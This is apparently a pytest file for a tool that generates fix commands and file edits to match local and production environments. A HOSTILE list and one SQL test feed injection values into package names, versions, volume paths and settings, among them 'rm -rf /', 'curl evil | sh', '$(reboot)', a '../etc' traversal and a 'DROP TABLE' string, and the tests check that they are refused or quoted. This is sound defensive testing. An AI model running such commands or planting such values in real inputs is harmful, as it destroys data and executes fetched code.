"""Every kind of remedy, by its cases; and what none of them does."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest

from parity.diff import compare
from parity.fix.answer import chosen
from parity.fix.context import Context
from parity.fix.remedies import kinds
from parity.policy import judge
from parity.policy.model import Sides
from tests.diff.profiles import profile
from tests.explain.cases import sections
from tests.fix.cases import COMPOSE, DOCKERFILE, after, commands, fixed, only
from tests.fix.remedies.cases import ROWS, Row


def items(row: Row, value: Any, more: Mapping[str, Any]) -> dict[str, Any]:
    section = row.label.partition(".")[0]
    own = {row.label: value} if value is not None else {}
    return {section: None, **row.beside, **more, **own}


@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row.kind}-{row.label}-{row.target[0]}")
def test_a_difference_gets_its_remedy(row: Row) -> None:
    local, production = items(row, row.local, row.here), items(row, row.production, row.there)
    found = fixed(local, production, row.texts, label=row.label, target=row.target)
    assert only(found).remedies, only(found).unknown
    said = "\n".join(commands(found))
    for words in row.commands:
        assert words in said, said
    for path, words in row.files.items():
        assert words in after(found, path, row.texts), after(found, path, row.texts)


@pytest.mark.parametrize("row", ROWS, ids=lambda row: f"{row.kind}-{row.label}-{row.target[0]}")
def test_the_remedy_is_that_kinds_own(row: Row) -> None:
    left = profile(sections(items(row, row.local, row.here)))
    right = profile(sections(items(row, row.production, row.there)))
    comparison = compare(left, right)
    picked = chosen(judge(comparison, left, right), comparison.differences, (row.label,))
    assert any(list(kinds()[row.kind].remedy(one, Context(Sides(left, right), named=True))) for one in picked)


def test_every_kind_has_a_title_and_a_row() -> None:
    assert {row.kind for row in ROWS} == set(kinds())
    assert all(kind.title for kind in kinds().values())


HOSTILE = (
    ("packages.x; rm -rf /", {"version": "1.0"}),
    ("packages.flask", {"version": "1.0; curl evil | sh"}),
    ("packages.flask", {"version": "$(reboot)"}),
    ("packages.flask", {"version": "1", "source": "git https://x/y z", "revision": "abc"}),
    ("environment.A-B.C", {"state": "set"}),
    ("volumes./data; reboot", {"exists": True, "writable": True, "kind": "volume"}),
    ("volumes./data/../etc", {"exists": True, "writable": True, "kind": "volume"}),
    ("libraries.$(id).so.1", {"resolved": True}),
    ("network.hosts.a b", "private"),
    ("time.zone", "Europe/Berlin;id"),
)


@pytest.mark.parametrize(
    ("label", "item"), HOSTILE, ids=[f"{label}-{number}" for number, (label, _) in enumerate(HOSTILE)]
)
def test_what_could_be_a_command_is_refused_and_told(label: str, item: Any) -> None:
    section = label.partition(".")[0]
    beside = {"platform.distribution": "debian 12"}
    found = fixed({**beside, label: item}, {section: None, **beside}, {"Dockerfile": DOCKERFILE}, label=label)
    assert not commands(found)
    assert not found.files
    assert only(found).unknown


def test_a_setting_is_a_literal_whatever_it_holds() -> None:
    found = fixed({"database.DateStyle": "x'; DROP TABLE a; --"}, {"database.DateStyle": "ISO"})
    assert "SET DateStyle = " in commands(found)[0]
    assert "x'\"'\"''\"'\"'; DROP TABLE" in commands(found)[0]


def test_a_side_can_be_asked_for() -> None:
    local, production = {"packages.flask": {"version": "2.0"}}, {"packages.flask": {"version": "1.0"}}
    assert only(fixed(local, production)).side == "production"
    found = fixed(local, production, side="local")
    assert only(found).side == "local"
    assert commands(found) == ["python3 -m pip install flask==1.0"]


def test_several_remedies_for_one_file_stand_side_by_side() -> None:
    local = {"environment.A_KEY": {"state": "set"}, "environment.B_KEY": {"state": "set"}, "limits.shm": 64 << 20}
    production = {"environment": None, "limits.shm": 1 << 20}
    texts = {
        "compose.yaml": COMPOSE.replace(
            "    environment:\n      # where the queue is\n      QUEUE_URL: ${QUEUE_URL}\n", ""
        )
    }
    text = after(fixed(local, production, texts), "compose.yaml", texts)
    assert text.count("environment:") == 1
    assert "      A_KEY: ${A_KEY:?is not set}\n      B_KEY: ${B_KEY:?is not set}\n" in text
    assert "    shm_size: 67108864\n" in text


def test_what_has_no_remedy_says_so() -> None:
    found = fixed({"platform.kernel": "6.1"}, {"platform.kernel": "5.10"})
    assert only(found).remedies == ()
    assert "parity rules platform.kernel" in only(found).unknown
